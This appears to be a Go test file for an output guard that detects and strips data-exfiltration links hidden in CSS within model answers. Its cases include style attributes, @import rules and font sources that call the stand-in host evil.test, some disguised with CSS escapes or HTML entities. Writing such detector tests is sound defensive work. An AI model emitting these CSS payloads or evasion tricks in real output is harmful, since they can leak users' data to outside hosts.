package guard

import (
	"slices"
	"strings"
	"testing"
)

// checkStreamed returns CheckOutput's result for in and fails the test
// unless streaming in every split and in chunks of 1 to 16 bytes gives
// the same.
func checkStreamed(t testing.TB, in string, o OutputOptions) (string, []OutputFinding) {
	t.Helper()
	want, wantFs := CheckOutput(in, o)
	for cut := 0; cut <= len(in); cut++ {
		if got, fs := streamAll(in, o, []int{cut}); got != want || !slices.Equal(fs, wantFs) {
			t.Fatalf("split at %d:\n got %q %+v\nwant %q %+v", cut, got, fs, want, wantFs)
		}
	}
	for size := 1; size <= 16; size++ {
		var cuts []int
		for c := size; c < len(in); c += size {
			cuts = append(cuts, c)
		}
		if got, fs := streamAll(in, o, cuts); got != want || !slices.Equal(fs, wantFs) {
			t.Fatalf("chunks of %d:\n got %q %+v\nwant %q %+v", size, got, fs, want, wantFs)
		}
	}
	return want, wantFs
}

// linkCase is an answer with the detail of its one exfil link ("" for
// none) and, optionally, its output with StripLinks.
type linkCase struct {
	name, in, detail, stripped string
}

// runLinkCases checks each case whole and streamed, with and without
// StripLinks.
func runLinkCases(t *testing.T, tests []linkCase) {
	t.Helper()
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			o := OutputOptions{AllowedDomains: []string{"example.com"}}
			out, fs := checkStreamed(t, tt.in, o)
			if out != tt.in {
				t.Errorf("without StripLinks output %q, want the input", out)
			}
			if tt.detail == "" {
				if len(fs) != 0 {
					t.Fatalf("findings %+v, want none", fs)
				}
				return
			}
			if len(fs) != 1 || fs[0].Category != ExfilLink || fs[0].Detail != tt.detail {
				t.Fatalf("findings %+v, want one exfil_link %q", fs, tt.detail)
			}
			o.StripLinks = true
			out, fs2 := checkStreamed(t, tt.in, o)
			if !slices.Equal(fs, fs2) {
				t.Errorf("findings with StripLinks %+v, want %+v", fs2, fs)
			}
			if tt.stripped != "" && out != tt.stripped {
				t.Errorf("stripped %q, want %q", out, tt.stripped)
			}
			if strings.Contains(out, "evil") {
				t.Errorf("stripped %q still names the host", out)
			}
		})
	}
}

func TestCSSStyleAttribute(t *testing.T) {
	t.Parallel()
	runLinkCases(t, []linkCase{
		{"background url", `a <div style="background:url(https://evil.test/p?d=s)">x</div> b`, "evil.test", "a x</div> b"},
		{"quoted with spaces", `<div style='background-image: url( "https://evil.test/x" )'>`, "evil.test", ""},
		{"entities", `<div style="background:url(&quot;https://evil.test/x&quot;)">`, "evil.test", ""},
		{"css escapes", `<div style="background:\75rl(https://\65vil.test/x)">`, "evil.test", ""},
		{"upper case", `<span STYLE="b:URL(//evil.test/x)">`, "evil.test", ""},
		{"image-set string", `<div style="background-image:image-set('https://evil.test/a.png' 1x)">`, "evil.test", ""},
		{"second of two", `<p style="background:url(https://cdn.example.com/a.png), url(https://evil.test/b.png)">`, "evil.test", ""},
		{"allowed host", `<div style="background:url(https://cdn.example.com/a.png); color: red">`, "", ""},
		{"relative and data", `<div style="background:url(/a.png), url('data:image/png;base64,iVBOR')">`, "", ""},
		{"fonts and text", `<div style="font-family: 'Helvetica Neue', Arial; content: 'Note: x'">`, "", ""},
		{"no url", `<div style="color: red; margin: 0 auto">text</div>`, "", ""},
	})
}

func TestCSSStyleElement(t *testing.T) {
	t.Parallel()
	long := strings.Repeat("a", 3000)
	runLinkCases(t, []linkCase{
		{"background-image", "<style>body{background-image: url('https://evil.test/x')}</style>", "evil.test",
			"<style>body{background-image: }</style>"},
		{"import url", "<style>@import url(https://evil.test/a.css);</style>", "evil.test", "<style>@import ;</style>"},
		{"import string", `<style>@import "https://evil.test/a.css";</style>`, "evil.test", "<style>@import ;</style>"},
		{"import protocol relative", `<style>@import '//evil.test/a.css' screen;</style>`, "evil.test", ""},
		{"one of two", "<style>\n.a{background:url(https://cdn.example.com/a.png)}\n\n.b{background:url(https://evil.test/b.png)}\n</style>",
			"evil.test", "<style>\n.a{background:url(https://cdn.example.com/a.png)}\n\n.b{background:}\n</style>"},
		{"upper case tag", `<STYLE type="text/css">p{b:URL(//evil.test/x)}</STYLE>`, "evil.test", ""},
		{"escaped function", `<style>p{b:\75 rl(https://evil.test/x)}</style>`, "evil.test", ""},
		{"escaped host", `<style>p{b:url("https://\65vil.test/x")}</style>`, "evil.test", ""},
		{"unclosed element", "<style>p{b:url(https://evil.test/x)}", "evil.test", ""},
		{"font src", "<style>@font-face{font-family:X;src:url(https://evil.test/f.woff2) format('woff2')}</style>", "evil.test", ""},
		{"markdown inside url", "<style>a{b:url(x![i](https://evil.test/y))}</style>", "evil.test", ""},
		{"markdown after element", "<style>a{b:url(x)}</style>\n\n![i](https://evil.test/y)", "evil.test", ""},
		{"overlong url", "<style>a{b:url(https://evil.test/" + long + ")}</style>", overlongDetail, ""},
		{"allowed", "<style>body{background:url(https://example.com/bg.png) no-repeat}</style>", "", ""},
		{"fonts and text", `<style>body{font-family:"Note: x", serif} p::before{content:"a:b"}</style>`, "", ""},
		{"data url", "<style>a{b:url(data:image/png;base64,iVBOR)}</style>", "", ""},
		{"long text", "<style>p::before{content:\"" + long + "\"}</style>", "", ""},
		{"after the element", "<style>p{}</style> then url(https://evil.test/x)", "", ""},
		{"prose", "Use url() in CSS, as in background: url(https://evil.test/bg.png).", "", ""},
		{"code span", "Write `background: url(https://evil.test/bg.png)` in the rule.", "", ""},
		{"code fence", "```css\nbody { background: url(https://evil.test/x.png) }\n@import \"https://evil.test/a.css\";\n```", "", ""},
	})
}
